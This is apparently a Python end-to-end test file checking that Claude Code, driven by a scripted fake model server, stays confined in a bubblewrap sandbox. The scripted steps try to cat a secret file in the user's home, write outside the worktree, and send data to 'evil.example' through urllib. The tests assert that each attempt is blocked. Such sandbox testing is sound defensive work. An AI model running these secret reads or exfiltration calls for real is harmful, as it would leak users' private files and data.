"""The real Claude Code in a sandbox: it works there, in its own folders, and gets no further."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from engine.model import JobSpec
from engine.server.client import Client
from tests.conftest import ENDS, Served, settings_file
from tests.e2e.model_server import Step, model_server
from tests.e2e.real_agents import installed
from tests.runner.test_sandbox import bubblewrap  # noqa: F401 - a fixture


@pytest.mark.parametrize("folder", ["its own", "of the home"])
async def test_claude_works_in_a_sandbox_and_goes_on_in_its_session(
    bubblewrap: None,  # noqa: F811
    served: Served,
    repository: Path,
    tmp_path: Path,
    folder: str,
) -> None:
    user = tmp_path / "user"
    user.mkdir()
    (user / "secret").write_text("nobody's business")
    config = user / "claude-config" if folder == "its own" else user / ".claude"
    variable = f"      CLAUDE_CONFIG_DIR: {config}\n" if folder == "its own" else ""
    worktree = served.home / "worktrees" / "1-add-a-line"
    steps = [
        Step("I look around.", run=f"ls -A {user}; cat {user}/secret; echo x >{repository}/a.txt; true"),
        Step("I tell how far I am.", tool=("mcp__headway__report_progress", {"message": "half way"})),
        Step("I will write the file.", write=(str(worktree / "b.txt"), "two\n")),
        Step("Done: wrote b.txt."),
        Step("Done again."),
    ]
    async with model_server(steps) as server:
        served.env |= {"ANTHROPIC_API_KEY": "sk-made-up", "HOME": str(user)}
        settings_file(
            served.home,
            f"grace: 5\nsandbox: true\nagents:\n  claude:\n    command: [{installed('claude')}]\n    env:\n"
            f"      ANTHROPIC_BASE_URL: {server.url}\n{variable}"
            '      CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1"\n    allowed_tools: [Bash]\n',
        )
        served.start()
        async with Client(served.home) as client:
            spec = JobSpec(prompt="add a file", title="Add a line", agent="claude", project=str(repository))
            (job,) = await client.submit([spec])
            await served.until_ended([job])
            seq = (await client.status()).seq
            served.headway("retry", str(job))
            await served.until(lambda event: isinstance(event.body, ENDS), after=seq)
        shown: Any = served.json("show", str(job))
        said = served.headway("logs", str(job), "--attempt", "1", "--json").stdout
    first, second = shown["attempts"]
    assert shown["job"]["state"] == "succeeded", (shown, said)
    assert (first["diff"]["files"], second["resumes"]) == (1, first["session"]), "its session outlived the sandbox"
    assert "nobody's business" not in said and "No such file" in said
    assert (repository / "a.txt").read_text() == "one\n"
    assert (worktree / "b.txt").read_text() == "two\n"
    assert any(config.iterdir())
    assert "half way" in served.headway("events", "--json").stdout, "by the tools' own socket"


async def test_claude_reaches_its_model_by_the_tap_and_nothing_else(
    bubblewrap: None,  # noqa: F811
    served: Served,
    repository: Path,
    tmp_path: Path,
) -> None:
    """With an empty list its provider is reached through the engine, which has the key, and no other host is."""
    user = tmp_path / "user"
    user.mkdir()
    code = "import urllib.request as u; u.urlopen('https://evil.example/?stolen')"
    ask = f'{sys.executable} -c "{code}" 2>&1 | tail -n 1'
    steps = [Step("I look around.", run=ask), Step("Done.")]
    async with model_server(steps) as server:
        served.env |= {"TAPPED_KEY": "sk-made-up-0123456789", "HOME": str(user)}
        settings_file(
            served.home,
            f"grace: 5\nsandbox: {{network: []}}\nagents:\n  claude:\n    command: [{installed('claude')}]\n    env:\n"
            f"      ANTHROPIC_BASE_URL: {server.url}\n"
            '      CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1"\n    allowed_tools: [Bash]\n'
            "accounts:\n  work: {agent: claude, key: {env: TAPPED_KEY}, tap: true}\n",
        )
        served.start()
        async with Client(served.home) as client:
            spec = JobSpec(prompt="look", title="Look", agent="claude", account="work", project=str(repository))
            (job,) = await client.submit([spec])
            await served.until_ended([job])
            detail = await client.job(job)
        said = served.headway("logs", str(job), "--json").stdout
        events = served.headway("events").stdout
    assert detail.job.state == "succeeded", (detail.job.reason, said)
    assert "403" in said and detail.refused == ["evil.example:443"], said
    assert "evil.example" in events
